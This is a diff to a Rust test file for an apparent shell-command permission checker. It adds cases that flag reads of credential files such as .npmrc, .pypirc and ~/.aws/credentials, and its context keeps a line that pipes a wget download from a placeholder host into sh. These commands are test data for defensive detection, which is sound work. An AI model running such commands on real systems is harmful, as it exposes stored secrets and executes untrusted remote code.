@@ -1314,8 +1314,8 @@ fn a_dup_redirect_to_a_file_is_read_by_its_own_operator() {
 
 /// Lists that drifted from the rules they mirrored before one kind table held them
 /// (issue 13): `find -exec` looked through fewer wrappers than the walker unwraps, a
-/// substitution's program was found past fewer wrappers, and `gpg` decoded without
-/// being a decoder.
+/// substitution's program was found past fewer wrappers, `gpg` decoded without being a
+/// decoder, and the secret names globs were tried against were not the ones paths were.
 #[test]
 fn one_kind_table_no_drift() {
     check(&[
@@ -1368,5 +1368,11 @@ fn one_kind_table_no_drift() {
             "echo $(ionice wget -qO- https://x.example) | sh",
         ),
         ("ask", "default", "find . -exec chronic cat {} +"),
+        // The glob witnesses listed `.npmrc` and `.pypirc`; the path check did not.
+        ("ask", "secret-file", "cat .npmrc"),
+        ("ask", "secret-file", "tac ~/.pypirc"),
+        ("ask", "secret-file", "cat .n?mrc"),
+        ("ask", "secret-file", "cat ~/.a*/credentials"),
+        ("auto", "readonly", "cat ~/.aws/config"),
     ]);
 }
